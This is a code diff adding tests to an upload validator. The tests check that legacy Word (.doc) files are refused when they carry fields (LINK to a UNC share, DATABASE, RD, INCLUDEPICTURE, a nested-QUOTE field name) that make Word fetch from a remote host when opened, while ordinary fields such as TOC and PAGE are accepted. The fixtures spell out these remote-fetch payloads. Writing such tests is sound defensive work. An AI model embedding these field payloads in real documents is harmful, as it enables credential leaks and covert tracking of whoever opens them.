@@ -7,7 +7,7 @@ import { parseMultipart, type MultipartResult } from "~/infra/uploads.server";
 import { SYLLABUS_TYPE_MESSAGE } from "~/schemas/course";
 import { ENQUIRY_FILE_TYPE_MESSAGE } from "~/schemas/enquiry";
 import { filesOnDisk, uploadRoot } from "../helpers/stored-files";
-import { multipartRequest, zip } from "./upload-fixtures";
+import { multipartRequest, wordBinary, zip } from "./upload-fixtures";
 
 /**
  * DOCX files that make Word fetch something when a visitor opens a syllabus (or staff an attachment): a
@@ -493,5 +493,42 @@ describe("the part scanner, fed in chunks of any size", () => {
   it("does not read a part that is not XML (a picture, a font), however it goes on", () => {
     const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from("<w:altChunk/><!DOCTYPE x>")]);
     expect(refusedInChunks(png, 3)).toBe(false);
+  });
+});
+
+describe("Word 97-2003 (.doc) files: the same fields, read from the document's text", () => {
+  const F = (instruction: string, result = "x") => `\u0013${instruction}\u0014${result}\u0015`;
+  const UNC = '"\\\\\\\\203.0.113.9\\\\share\\\\x.xls"';
+
+  async function doc(field: string, file: Buffer) {
+    return (await upload(field, field === "filePaths" ? "cv.doc" : "syllabus.doc", file)).errors;
+  }
+
+  const refused: [string, () => Buffer][] = [
+    ["a LINK field with \\a to a UNC share", () => wordBinary([{ text: `Ravi Kumar ${F(` LINK Excel.Sheet.8 ${UNC} "" \\a `)} CV` }])],
+    ["a DATABASE field to an http URL, stored as UTF-16", () => wordBinary([{ text: `CV ${F(' DATABASE \\d "http://203.0.113.9/d.mdb" ')}`, unicode: true }])],
+    [
+      "an RD field split over two pieces of text",
+      () => wordBinary([{ text: `CV \u0013 R` }, { text: `D "http://203.0.113.9/c.doc" \u0014\u0015 end`, unicode: true }]),
+    ],
+    ["an INCLUDEPICTURE inside another field's result", () => wordBinary([{ text: F(" IF 1 = 1 ", F(' INCLUDEPICTURE "http://203.0.113.9/p.png" \\d ')) }])],
+    ["a field whose name a nested field makes", () => wordBinary([{ text: `\u0013${F(" QUOTE 76 73 78 75 ")} "http://203.0.113.9/x"\u0014\u0015` }])],
+  ];
+  for (const [label, make] of refused) {
+    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
+      const file = make();
+      expect((await doc("syllabusFile", file)).syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
+      expect((await doc("filePaths", file)).filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
+      expect(filesOnDisk()).toEqual([]);
+    });
+  }
+
+  it("takes a CV with page numbers, a date, a web link and a table of contents", async () => {
+    const file = wordBinary([
+      { text: `Ravi Kumar${F(' TOC \\o "1-3" \\h ', "")} Page ${F(" PAGE ", "1")} of ${F(" NUMPAGES ", "2")} ` },
+      { text: `${F(' DATE \\@ "dd/MM/yyyy" ', "05/01/2026")} ${F(' HYPERLINK "https://www.linkedin.com/in/ravi" ', "LinkedIn")} – ok`, unicode: true },
+    ]);
+    expect(await doc("syllabusFile", file)).toEqual({});
+    expect(await doc("filePaths", file)).toEqual({});
   });
 });
